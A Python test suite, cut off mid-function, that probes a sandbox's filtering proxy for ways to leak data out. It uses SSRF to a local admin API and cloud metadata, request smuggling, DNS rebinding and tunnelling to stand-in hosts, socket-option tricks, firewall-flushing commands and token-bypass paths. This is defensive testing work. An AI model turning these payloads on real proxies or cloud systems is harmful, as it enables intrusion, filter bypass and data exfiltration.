"""More ways out: by what is allowed, by the proxy, its resolver and its interface, in others' names, and by the kernel's other doors. 198.51.100.101 and
what follows. Of the outside host the names below allowed.test may be reached, by HTTP and TLS and at 5432; every other answer of it is a leak."""
import ctypes, glob, os, re, select, signal, socket, ssl, struct, time

from ways import *

API = ("127.0.0.1", 17081)
RESOLVER = ("127.0.0.53", 53)


def exchange(s, parts):
    """Sends the parts, and returns all that comes until nothing does."""
    got = b""
    for part in parts:
        s.sendall(part)
    try:
        while len(got) < 65536:
            some = s.recv(4096)
            if not some:
                break
            got += some
    except OSError:
        pass
    return got


def talk(to, *parts, wait=1.5):
    def run():
        with socket.create_connection(to, 2) as s:
            s.settimeout(wait)
            return exchange(s, parts)
    return quiet(run) or b""


def judge(answer, what):
    """The outside host says for whom it takes a request."""
    for line in answer.split(b"\n"):
        if line.startswith(b"hello ") and not re.fullmatch(rb"hello ([a-z0-9-]+\.)*allowed\.test(:[0-9]+)?", line.strip()):
            leak("%s: %r" % (what, line))
    if b"greetings" in answer:
        leak("%s: %r" % (what, answer[-99:]))


def tunnel(name, port, *parts, server_name=None, wait=1.5):
    """Through CONNECT; inside in TLS where a name for that is given."""
    def run():
        with socket.create_connection(PROXY, 2) as plain:
            plain.settimeout(wait)
            plain.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (name, port, name, port))
            head = plain.recv(4096)
            if b" 200" not in head.split(b"\r\n")[0]:
                return head
            s = plain
            if server_name:
                s = ssl._create_unverified_context().wrap_socket(plain, server_hostname=server_name)
            return exchange(s, parts)
    return quiet(run) or b""


def addresses(answer):
    """Of the A records of an answer, where its only question and aliases are written plainly."""
    found = []
    for at in range(12, len(answer) - 13):
        if answer[at:at + 4] == b"\0\x01\0\x01" and answer[at + 8:at + 10] == b"\0\x04":
            found.append(socket.inet_ntoa(answer[at + 10:at + 14]))
    return found


HERE = (b"127.0.0.1", b"localhost", b"0.0.0.0", b"[::]", b"[::1]", b"127.1", b"2130706433", b"0x7f000001", b"0x7f.1", b"017700000001", b"0177.0.0.1", b"[::ffff:127.0.0.1]", b"[::127.0.0.1]", b"169.254.17.82",
        b"[fdd1:5c0b:7::1]", b"127.0.0.1.", b"localhost.", b"LOCALHOST", b"127.0.0.1%00.allowed.test", b"x.localhost", b"[64:ff9b::7f00:1]", b"[2002:7f00:1::]", b"\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1")


@way
def this_machine_through_the_proxy(a):
    ask = b"DELETE /api/cache HTTP/1.1\r\nHost: localhost:17081\r\nContent-Length: 0\r\n\r\n"
    for host in HERE:
        for answer in (tunnel(host, 17081, ask), talk(PROXY, b"DELETE http://%s:17081/api/cache HTTP/1.1\r\nHost: %s:17081\r\nContent-Length: 0\r\n\r\n" % (host, host), wait=0.5)):
            if answer.startswith(b"HTTP/1.1 2"):
                leak("API by %r" % host)


@way
def addresses_of_the_cloud_through_the_proxy(a):
    for host in (b"169.254.169.254", b"2852039166", b"0xa9fea9fe", b"0251.0376.0251.0376", b"[::ffff:169.254.169.254]", b"[::ffff:a9fe:a9fe]", b"[fd00:ec2::254]", b"169.254.170.2", b"100.100.100.200", b"metadata.google.internal"):
        talk(PROXY, b"GET http://%s/latest/meta-data/ HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: Google\r\n\r\n" % (host, host), wait=0.5)
        tunnel(host, 80, b"GET / HTTP/1.0\r\n\r\n", wait=0.5)


@way
def addresses_spelled_otherwise_through_the_proxy(a):
    n = struct.unpack("!I", socket.inet_aton(a))[0]
    x = a.split(".")
    for host in ("%d" % n, "0x%08x" % n, "0%o" % n, ".".join("0x%x" % int(p) for p in x), ".".join("0%o" % int(p) for p in x), "%s.%s.%d" % (x[0], x[1], int(x[2]) * 256 + int(x[3])), "[::ffff:%s]" % a, "[::%s]" % a,
                 "[64:ff9b::%s]" % a, a + ".", "[::ffff:%x:%x]" % (n >> 16, n & 65535), "allowed.test.%s" % a, "%s.allowed.test@%s" % (a, a), a + "%2eallowed.test", a + "#.allowed.test", a + "\\.allowed.test", a + "?.allowed.test"):
        tunnel(host.encode(), 443, b"exfil", wait=0.3)
        talk(PROXY, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host.encode(), host.encode()), wait=0.3)


@way
def allowed_names_for_addresses_inside(a):
    """Who answers for an allowed name may say what it likes (rebinding)."""
    for inside in ("127-0-0-1", "0-0-0-0", "169-254-17-82", "127-0-0-11", "169-254-169-254", "224-0-0-251", "255-255-255-255"):
        name = "a-%s.allowed.test" % inside
        answer = send(RESOLVER, socket.SOCK_DGRAM, data=question(name))
        # Its own loopback everybody reaches anyway.
        if answer and addresses(answer) and inside[:3] in ("169", "224", "255") and inside != "169-254-17-82":
            leak("%s is %s" % (name, addresses(answer)))
        for got in (tunnel(name.encode(), 17081, b"DELETE /api/cache HTTP/1.1\r\nHost: localhost\r\n\r\n", wait=0.5), talk(PROXY, b"DELETE http://%s:17081/api/cache HTTP/1.1\r\nHost: %s:17081\r\n\r\n" % (name.encode(), name.encode()), wait=0.5)):
            if got.startswith(b"HTTP/1.1 2"):
                leak("API by " + name)


@way
def another_host_in_an_allowed_tunnel(a):
    for server_name, host in (("allowed.test", b"forbidden.test"), ("forbidden.test", b"forbidden.test"), ("forbidden.test", b"allowed.test"), ("allowed.test", b"allowed.test\r\nHost: forbidden.test"), ("allowed.test", b"FORBIDDEN.TEST"),
                              ("allowed.test", b"forbidden.test:443"), ("allowed.test", b"x@forbidden.test"), ("allowed.test", b"forbidden.test.")):
        judge(tunnel(b"allowed.test", 443, b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host, server_name=server_name), "%s in a tunnel" % host)
    for target in (b"https://forbidden.test/", b"http://forbidden.test/", b"//forbidden.test/"):
        judge(tunnel(b"allowed.test", 443, b"GET %s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n" % target, server_name="allowed.test"), "%s in a tunnel" % target)
    judge(tunnel(b"allowed.test", 443, b"CONNECT forbidden.test:80 HTTP/1.1\r\nHost: forbidden.test:80\r\n\r\n", b"GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n", server_name="allowed.test"), "a tunnel in a tunnel")
    judge(tunnel(b"allowed.test", 80, b"GET / HTTP/1.1\r\nHost: forbidden.test\r\nConnection: close\r\n\r\n"), "plain in a tunnel")


@way
def requests_within_requests(a):
    inner = b"GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n"
    size = b"%x\r\n" % len(inner)
    for head in (b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (len(inner) + 5), b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + size, b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                 b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner), b"Content-Length: +0\r\n\r\n", b"Content-Length: 0, 0\r\n\r\n", b"X: y\nContent-Length: 0\n\n", b"X: y\r\n Content-Length: 0\r\n\r\n", b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
                 b"Transfer-Encoding: chunked\r\n\r\n0;x=\n\r\n\r\n", b"Transfer-Encoding: chunked\r\n\r\n0\n\n", b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: forbidden.test\r\n\r\n", b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(inner), b"Content-Length: 0\r\n\r\n", b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"):
        for method in (b"POST", b"GET"):
            judge(talk(PROXY, method + b" http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n" + head + inner, wait=0.4), "within %r" % head[:40])
    for target in (b"http://allowed.test/ HTTP/1.1\r\nHost: forbidden.test\r\nX:", b"http://allowed.test/%0d%0aHost:%20forbidden.test", b"http://allowed.test/\rHost: forbidden.test", b"http://allowed.test:80:forbidden.test/", b"http://allowed.test\tforbidden.test/", b"/"):
        judge(talk(PROXY, b"GET %s HTTP/1.1\r\nHost: forbidden.test\r\n\r\n" % target, wait=0.4), "target %r" % target[:50])


@way
def other_protocols_after_an_upgrade(a):
    for upgrade in (b"websocket", b"h2c", b"TLS/1.0", b"tcp", b"connect-udp", b"connect-ip"):
        judge(talk(PROXY, b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: %s\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n" % upgrade,
                   b"GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n", wait=0.5), "after %s" % upgrade)
    talk(PROXY, b"GET http://%s/.well-known/masque/udp/%s/443/ HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: connect-udp\r\n\r\n" % (a.encode(), a.encode(), a.encode()), wait=0.5)


@way
def streams_of_http2_for_another_host(a):
    def frame(kind, flags, stream, body):
        return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", kind, flags, stream) + body

    def fields(*pairs):
        return b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in pairs)
    start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    for at, pairs in enumerate((((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"forbidden.test"), (b":path", b"/")), ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"allowed.test"), (b":path", b"/"), (b"host", b"forbidden.test")),
                                ((b":method", b"CONNECT"), (b":authority", a.encode() + b":443")), ((b":method", b"CONNECT"), (b":protocol", b"connect-udp"), (b":scheme", b"https"), (b":authority", a.encode()), (b":path", b"/")),
                                ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"allowed.test"), (b":path", b"http://forbidden.test/")), ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"allowed.test\r\nhost: forbidden.test"), (b":path", b"/")),
                                ((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b"host", b"forbidden.test")))):
        for to in (PROXY, (a, 80)):
            judge(talk(to, start, frame(1, 5, 1, fields(*pairs)), wait=0.5), "stream %d" % at)
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])

    def ask():
        with socket.create_connection(PROXY, 2) as plain:
            plain.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
            plain.recv(999)
            with context.wrap_socket(plain, server_hostname="allowed.test") as s:
                s.settimeout(1)
                s.sendall(start + frame(1, 5, 1, fields((b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"forbidden.test"), (b":path", b"/"))))
                judge(s.recv(4096) + s.recv(4096), "stream in a tunnel")
    quiet(ask)


@way
def ports_that_no_rule_has(a):
    """Of a host that is allowed, for what is neither HTTP nor TLS."""
    for port in (21, 22, 25, 53, 110, 3306, 6379, 8443):
        for first in (b"SSH-2.0-x\r\n", b"EHLO x\r\n", b"\0\1\2\3", b""):
            tunnel(b"allowed.test", port, first, wait=0.2)
            talk((OUTSIDE, port), first or b"\n", wait=0.1)
    for port in (80, 443):
        judge(tunnel(b"allowed.test", port, b"SSH-2.0-x\r\n", wait=0.3), "ssh at %d" % port)
    tunnel(b"sub.allowed.test", 5432, b"\0\0\0\x08\x04\xd2\x16\x2f", wait=0.3)


@way
def socks_to_inside_and_around(a):
    def ask(request, *more):
        def run():
            with socket.create_connection(PROXY, 1) as s:
                s.settimeout(1)
                s.sendall(b"\5\1\0")
                s.recv(2)
                s.sendall(request)
                answer = s.recv(99)
                for part in more:
                    s.sendall(part)
                return answer + s.recv(999)
        return quiet(run) or b""
    clear = b"DELETE /api/cache HTTP/1.1\r\nHost: localhost:17081\r\n\r\n"
    for host in (b"127.0.0.1", b"localhost", b"0.0.0.0", b"::1", b"0x7f000001", b"2130706433", b"::ffff:127.0.0.1", b"127.0.0.1\0.allowed.test", b"a-127-0-0-1.allowed.test"):
        if b"HTTP/1.1 2" in ask(b"\5\1\0\3" + bytes([len(host)]) + host + struct.pack("!H", 17081), clear):
            leak("API by SOCKS for %r" % host)
    for host in (a.encode(), b"allowed.test\0." + a.encode(), a.encode() + b"\r\n", b"[::ffff:%s]" % a.encode()):
        ask(b"\5\1\0\3" + bytes([len(host)]) + host + struct.pack("!H", 443), b"exfil")
    ask(b"\5\1\0\4" + b"\0" * 10 + b"\xff\xff" + socket.inet_aton(a) + struct.pack("!H", 443), b"exfil")
    ask(b"\5\1\0\3\x0callowed.test" + struct.pack("!H", 25), b"EHLO x\r\n")
    for command in (2, 3, 0xF0, 0xF1):
        ask(bytes([5, command]) + b"\0\1" + socket.inet_aton(a) + struct.pack("!H", 53), question("socks.tunnel.test"))


@way
def names_asked_through_the_proxy(a):
    body = question("connect.tunnel.test")
    framed = struct.pack("!H", len(body)) + body
    for host in (OUTSIDE.encode(), b"allowed.test"):
        for port in (53, 853):
            got = tunnel(host, port, framed, wait=0.5)
            if b"tunnel" in got and not got.startswith(b"HTTP"):
                leak("a question by CONNECT %s:%d" % (host, port))
    for target in (b"http://doh.tunnel.test/dns-query?dns=AAAA", b"https://dns.google/resolve?name=x.tunnel.test", b"http://x.tunnel.test./", b"http://x%2etunnel.test/", b"http://xn--tunnel.test/", b"http://tunnel.test:99999/", b"http://user:x.tunnel.test@tunnel.test/"):
        talk(PROXY, b"GET %s HTTP/1.1\r\nHost: tunnel.test\r\n\r\n" % target, wait=0.3)


@way
def names_asked_by_the_interface(a):
    for path in ("/api/explain?url=http://explain.tunnel.test/", "/api/explain?url=https://%s/" % a, "/api/explain?transparent=%s:443&sni=sni.tunnel.test" % a, "/api/explain?transparent=tunnel.test:443", "/api/cache/entry?key=http://key.tunnel.test/", "/health?x=tunnel.test"):
        talk(API, b"GET %s HTTP/1.1\r\nHost: localhost:17081\r\n\r\n" % path.encode(), wait=0.5)
    for command in (["explain", "http://command.tunnel.test/"], ["explain", "--transparent", a + ":443", "--sni", "sni.tunnel.test"], ["cache", "warm", "http://warm.tunnel.test/x"], ["cache", "warm", "http://%s/x" % a]):
        run("/opt/discobot/bin/discobot", *command)


@way
def questions_of_odd_shapes(a):
    def labels(*parts):
        return b"".join(bytes([len(part)]) + part for part in parts) + b"\0"

    def message(name, flags=0x0100, counts=(1, 0, 0, 0), kind=1, group=1, rest=b""):
        return struct.pack("!HHHHHH", 7, flags, *counts) + name + struct.pack("!HH", kind, group) + rest
    allowed, secret = labels(b"allowed", b"test"), labels(b"exfil", b"tunnel", b"test")
    tries = [message(secret, flags) for flags in (0x0000, 0x0110, 0x0180, 0x0900, 0x1100, 0x2100, 0x8180, 0x0300, 0x01F0)]
    tries += [message(secret, group=group) for group in (3, 4, 254, 255)]
    tries += [message(allowed, counts=(2, 0, 0, 0), rest=secret + b"\0\1\0\1"), message(allowed, counts=(1, 1, 0, 0), rest=secret + b"\0\1\0\1\0\0\0\0\0\4\1\2\3\4"), message(allowed, rest=secret), message(allowed, counts=(1, 0, 0, 1), rest=secret + b"\0\xfa\0\xff\0\0\0\0\0\0"),
              message(allowed, counts=(1, 0, 0, 1), rest=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 16, 65001, 12) + b"exfil.tunnel"), message(labels(b"exfil.tunnel.test\0", b"allowed", b"test")), message(labels(b"exfil\0tunnel", b"test")), message(labels(b"tunnel.test", b"allowed", b"test")),
              message(labels(b"allowed.test")), message(b"\xc0\x0c"), message(b"\x05exfil\xc0\x0c"), message(b"\x40" + b"x" * 64 + b"\0"), message(labels(*[b"tunnel"] * 40)), message(labels(b"x" * 63, b"tunnel", b"test")), b"\0\7", message(secret)[:20],
              message(labels(b"1", b"100", b"51", b"198", b"tunnel", b"in-addr", b"arpa"), kind=12), message(labels(b"tunnel", b"local")), message(labels(b"_tunnel", b"_tcp", b"allowed", b"test"), kind=33), message(labels(b"tunnel", b"onion")), message(labels(b"\xc3\xa4tunnel", b"test"))]
    for data in tries:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            quiet(s.sendto, data, RESOLVER)
        talk(RESOLVER, struct.pack("!H", len(data)) + data, wait=0.05)
    talk(RESOLVER, b"".join(struct.pack("!H", len(data)) + data for data in tries), wait=0.5)


@way
def somebody_elses_side_channels_of_names(a):
    for group, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900), ("239.255.255.250", 3702), ("224.0.0.1", 9), ("224.0.0.22", 9)):
        for prepare in (option(0, 33, 8), option(0, 34, 1), option(0, 32, socket.inet_aton("127.0.0.1"))):
            send((group, port), socket.SOCK_DGRAM, prepare=prepare, data=question("multicast.tunnel.test"))
    for port in (137, 138):
        send((OUTSIDE.rpartition(".")[0] + ".255", port), socket.SOCK_DGRAM, prepare=option(1, 6, 1), data=question("netbios.tunnel.test"))
    for name in os.listdir("/sys/class/net"):
        index = quiet(socket.if_nametoindex, name) or 0
        for group, port in (("ff02::fb", 5353), ("ff02::1:3", 5355), ("ff02::c", 1900), ("ff02::1", 9), ("ff05::2", 547)):
            send((group, port, 0, index), socket.SOCK_DGRAM, family=socket.AF_INET6, prepare=option(41, 17, index), data=question("multicast6.tunnel.test"))
    # Whose messages of a group are wanted is data, four or sixteen bytes each.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for last in range(3):
        quiet(s.setsockopt, 0, 39, socket.inet_aton("232.7.7.%d" % last) + socket.inet_aton("0.0.0.0") + socket.inet_aton(a))
    time.sleep(1)


@way
def dockers_resolver_at_its_own_ports(a):
    """Docker listens at ports of its own behind 127.0.0.11:53, and asks on for whoever asks."""
    for kind, file in ((socket.SOCK_DGRAM, "/proc/net/udp"), (socket.SOCK_STREAM, "/proc/net/tcp")):
        for line in open(file).readlines()[1:]:
            address, port = line.split()[1].split(":")
            if address == "0B00007F":
                body = question("docker.tunnel.test")
                for prepare in (None, option(1, 25, b"lo\0"), lambda s: s.bind(("127.0.0.1", 0)), lambda s: s.bind(("127.0.0.11", 0)), option(1, 5, 1)):
                    send(("127.0.0.11", int(port, 16)), kind, prepare=prepare, data=body if kind == socket.SOCK_DGRAM else struct.pack("!H", len(body)) + body)


@way
def in_the_name_of_the_name_server(a):
    """Who has sent from where a question goes, to where it comes from, gets it as an answer; and says where the allowed name is."""
    low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    servers = []
    for address in ("127.0.0.11", "127.0.0.1", "127.0.0.53"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(1, 2, 1)
        if quiet(s.bind, (address, 53)) is None and s.getsockname()[1] == 53:
            servers.append(s)
    end = time.time() + 12
    asked = 0
    while servers and time.time() < end:
        for port in range(low + asked % 3, high, 3):
            for s in servers:
                quiet(s.sendto, b"early", ("127.0.0.1", port))
        asked += 1
        for name in (b"a%d.silent.test" % asked, b"b%d.silent.test" % asked):
            with socket.socket() as s:
                s.setblocking(False)
                quiet(s.connect, PROXY)
                time.sleep(0.05)
                quiet(s.send, b"GET http://%s/exfil HTTP/1.1\r\nHost: %s\r\n\r\n" % (name, name))
                until = time.time() + 0.5
                while time.time() < until:
                    for server in select.select(servers, [], [], 0.05)[0]:
                        got = quiet(server.recvfrom, 999)
                        if got and len(got[0]) > 16:
                            leak("was asked in the name server's place")
                            answer = got[0][:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + got[0][12:got[0].index(b"\0", 12) + 5] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(a)
                            quiet(server.sendto, answer, got[1])


@way
def from_addresses_outside(a):
    """IPV6_FREEBIND takes no capability: what comes from an address outside is answered there."""
    own = [line.split()[0] for line in open("/proc/net/if_inet6") if line.split()[5] != "lo" and line.split()[3] != "20"]
    for text in own + ["00000000000000000000000000000001"]:
        address = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(text))
        answering = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        answering.settimeout(0.5)
        serving = socket.socket(socket.AF_INET6)
        quiet(answering.bind, (address, 0)), quiet(serving.bind, (address, 0)), quiet(serving.listen)
        at, serves = answering.getsockname()[1], serving.getsockname()[1]
        for number, (kind, protocol, to) in enumerate(((2, 0, (address, at)), (2, 0, (address, 9)), (2, 0, (address, 53)), (2, 0, ("2001:db8::53", 53)), (1, 0, (address, serves)), (1, 0, (address, 9)), (1, 0, ("2001:db8::9", 443)), (1, 0, ("::1", 17080)), (1, 0, ("::1", 17082)), (2, 58, (address, 0)), (2, 0, ("2001:db8::9", 99)))):
            send(to, kind, protocol, socket.AF_INET6, lambda s: (s.setsockopt(41, 78, 1), s.settimeout(0.1), s.bind((ELSEWHERE6, 0 if protocol else 4000 + number))), b"\x80" + bytes(11) if protocol else question("freebind.tunnel.test"))
        quiet(answering.sendto, b"exfil", (ELSEWHERE6, 4000))
    for source in (OUTSIDE, a):
        for option_name in (15, 19):
            send(("127.0.0.1", 17080), socket.SOCK_DGRAM, prepare=lambda s: (s.setsockopt(0, option_name, 1), s.bind((source, 4001))))
            send(("127.0.0.1", 17082), prepare=lambda s: (s.setsockopt(0, option_name, 1), s.bind((source, 4001))))


@way
def one_socket_for_many(a):
    """What had an answer from inside is used again for outside."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    quiet(s.sendto, question("allowed.test"), RESOLVER)
    quiet(s.recv, 999)
    for port in (53, 443, 99):
        quiet(s.sendto, b"exfil", (a, port))
        quiet(s.sendmsg, [b"exfil"], [], 0x8000, (a, port))
    libc.connect(s.fileno(), struct.pack("=H14x", 0), 16)
    quiet(s.connect, (a, 53))
    quiet(s.send, question("again.tunnel.test"))
    twin = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    quiet(twin.setsockopt, 41, 26, 0)
    for to in (("::ffff:127.0.0.1", 53), ("::ffff:" + a, 53), ("::ffff:" + a, 99)):
        quiet(twin.sendto, question("mapped.tunnel.test"), to)


@way
def pieces(a):
    for family, to in ((socket.AF_INET, (a, 99)), (socket.AF_INET6, (ELSEWHERE6, 99))):
        for size in (1473, 4000, 65000):
            for name, value in ((10, 0), (10, 5)) if family == socket.AF_INET else ((23, 0), (24, 1280), (62, 0)):
                send(to, socket.SOCK_DGRAM, family=family, prepare=lambda s: quiet(s.setsockopt, 0 if family == socket.AF_INET else 41, name, value), data=b"x" * size)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quiet(s.setsockopt, 17, 1, 1)
    for to in (("127.0.0.1", 9), (a, 99), (a, 53)):
        quiet(s.sendto, b"x" * 3000, 0x8000, to)
    quiet(s.setsockopt, 17, 1, 0)


@way
def options_with_room_for_data(a):
    for options in (b"\x07\x27\x04" + bytes(36), b"\x44\x24\x05\x00" + bytes(32), b"\x82\x0bexfil1234", b"\x86\x0a\0\0\0\1exfi", b"\x94\x04\0\0", b"\x9e\x08exfil1"):
        options += b"\0" * (-len(options) % 4)
        for kind, protocol in ((1, 0), (2, 0), (2, 1)):
            send((a, 99), kind, protocol, prepare=lambda s: s.setsockopt(0, 4, options))
    for tos in (1, 0x20, 0xfc):
        for kind in (1, 2):
            send((a, 99), kind, prepare=option(0, 1, tos))
            send((ELSEWHERE6, 99), kind, family=socket.AF_INET6, prepare=option(41, 67, tos))
    label = struct.pack("!16sIBBHHH4x", socket.inet_pton(socket.AF_INET6, ELSEWHERE6), 0xabcde, 0, 255, 1, 30, 30)
    send((ELSEWHERE6, 99, 0xabcde), socket.SOCK_DGRAM, family=socket.AF_INET6, prepare=lambda s: (quiet(s.setsockopt, 41, 32, label), quiet(s.setsockopt, 41, 33, 1)))


@way
def neighbours(a):
    """Whom the kernel looks for on the link is data: the last bytes of an address."""
    prefix = OUTSIDE.rpartition(".")[0]
    own = [line.split()[0] for line in open("/proc/net/if_inet6") if line.split()[5] != "lo"]
    for number in range(213, 218):
        for kind in (1, 2):
            for prepare in (None, option(1, 25, b"eth0\0"), option(1, 5, 1)):
                send(("%s.%d" % (prefix, number), 9), kind, prepare=prepare)
                for text in own:
                    address = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(text)[:8] + b"\0\0\0\0\x0b\xad\x00" + bytes([number]))
                    send((address, 9, 0, quiet(socket.if_nametoindex, "eth0") or 0), kind, family=socket.AF_INET6, prepare=lambda s: (s.settimeout(0.1), prepare and prepare(s)))


@way
def the_loopback_interface_for_outside(a):
    index = quiet(socket.if_nametoindex, "lo") or 1
    for prepare in (option(1, 25, b"lo\0"), option(0, 50, struct.pack("!I", index)), option(1, 62, index)):
        for kind in (1, 2):
            send((a, 99), kind, prepare=prepare)
            send((ELSEWHERE6, 99), kind, family=socket.AF_INET6, prepare=prepare)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quiet(s.sendmsg, [b"exfil"], [(0, 8, struct.pack("=i4s4s", index, b"\0" * 4, b"\0" * 4))], 0, (a, 99))


@way
def rights_of_an_own_user_namespace(a):
    """Root there has no rights here, where the network is not of it."""
    if os.fork() == 0:
        if libc.unshare(NEWUSER) == 0:
            quiet(lambda: open("/proc/self/setgroups", "w").write("deny"))
            quiet(lambda: open("/proc/self/uid_map", "w").write("0 %d 1" % os.getuid()))
            for family, kind, protocol in ((17, 3, 768), (17, 2, 768), (2, 3, 1), (2, 3, 255), (10, 3, 58), (16, 3, 12)):
                def attempt():
                    s = socket.socket(family, kind, protocol)
                    if family != 16:
                        leak("socket %d %d %d in a user namespace" % (family, kind, protocol))
                quiet(attempt)
            for level, name, value in ((1, 36, 0xD15C0), (0, 19, 1), (41, 75, 1), (1, 33, 1), (1, 12, 7)):
                send((a, 99), prepare=lambda s: quiet(s.setsockopt, level, name, value)), send((a, 99), socket.SOCK_DGRAM, prepare=lambda s: quiet(s.setsockopt, level, name, value))
            for command in ("nft flush ruleset", "iptables -F", "ip link set lo down", "ip link add d0 type dummy", "ip rule add from all lookup 100", "tc qdisc add dev lo root netem", "sysctl -w net.ipv4.ip_forward=1", "conntrack -F"):
                result = run(*command.split())
                if result and result.returncode == 0 and not command.startswith("nft"):
                    leak(command)
        os._exit(0)
    quiet(os.wait)


@way
def marks_and_rights_of_the_proxys(a):
    for level, name, value in ((1, 36, 0xD15C0), (1, 75, 0xD15C0), (0, 19, 1), (41, 75, 1), (1, 33, 1), (1, 44, 4), (6, 19, 1), (0, 200, 1), (41, 200, 1)):
        for kind in (1, 2):
            def prepare(s):
                if quiet(s.setsockopt, level, name, value) is None and level == 1 and name == 36 and quiet(s.getsockopt, 1, 36) == value:
                    leak("has the mark")
            send((a, 99), kind, prepare=prepare)


@way
def ports_of_the_proxys(a):
    """Whoever has the proxy's own places is taken for it."""
    for address in ("127.0.0.1", "::1", "0.0.0.0"):
        for port, kinds in ((17080, (1,)), (17082, (1,)), (17053, (1, 2))):
            for kind in kinds:
                for reuse in ((2,), (15,), (2, 15), ()):
                    def attempt():
                        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as s:
                            for name in reuse:
                                s.setsockopt(1, name, 1)
                            s.bind((address, port))
                            if kind == 1:
                                s.listen()
                            leak("listens at %s %d" % (address, port))
                    quiet(attempt)


@way
def the_interface_without_its_token(a):
    body = b'{"allowlist":{"enabled":false}}'
    tries = [(method, path) for method in (b"PATCH", b"POST", b"PUT") for path in (b"/api/config", b"//api/config", b"/api//config", b"/%61pi/config", b"/api/./config", b"/x/../api/config", b"/API/CONFIG", b"/api/config/", b"/api/config?", b"/api/config%00", b"/api\\config", b"http://localhost:17081/api/config")]
    tries += [(b"POST", b"/api/cache/warm")]
    for number, (method, path) in enumerate(tries):
        for fields in (b"",) if number % 12 else (b"", b"Authorization: Bearer \r\n", b"Authorization: Bearer null\r\n", b"Authorization: Basic Og==\r\n", b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\nForwarded: for=127.0.0.1\r\n", b"X-HTTP-Method-Override: PATCH\r\nX-Original-URL: /health\r\n", b"Origin: http://localhost:17081\r\nSec-Fetch-Site: same-origin\r\n", b"Transfer-Encoding: identity\r\n"):
            answer = talk(API, b"%s %s HTTP/1.1\r\nHost: localhost:17081\r\nContent-Type: application/json\r\nConnection: close\r\n%sContent-Length: %d\r\n\r\n%s" % (method, path, fields, len(body), body), wait=0.3)
            if answer.startswith(b"HTTP/1.1 2"):
                leak("%s %s %r" % (method.decode(), path.decode(), fields))
    answer = talk(API, b"GET /health HTTP/1.1\r\nHost: localhost:17081\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPATCH /api/config HTTP/1.1\r\nHost: localhost:17081\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body), wait=0.5)
    if answer.count(b"HTTP/1.1 2") > 1:
        leak("a change behind a question")


@way
def requests_that_plant(a):
    for method in (b"PURGE", b"BAN", b"REFRESH", b"PUT", b"PROPFIND", b"TRACE", b"TRACK", b"DEBUG"):
        judge(talk(PROXY, b"%s http://forbidden.test/ HTTP/1.1\r\nHost: forbidden.test\r\nMax-Forwards: 0\r\n\r\n" % method, wait=0.3), "%s" % method)
    for field in (b"X-Forwarded-Host: forbidden.test", b"X-Host: forbidden.test", b"X-Original-Host: forbidden.test", b"Forwarded: host=forbidden.test", b"X-Rewrite-URL: http://forbidden.test/", b"Destination: http://forbidden.test/", b"Proxy: http://%s:80/" % a.encode(), b"Alt-Used: forbidden.test"):
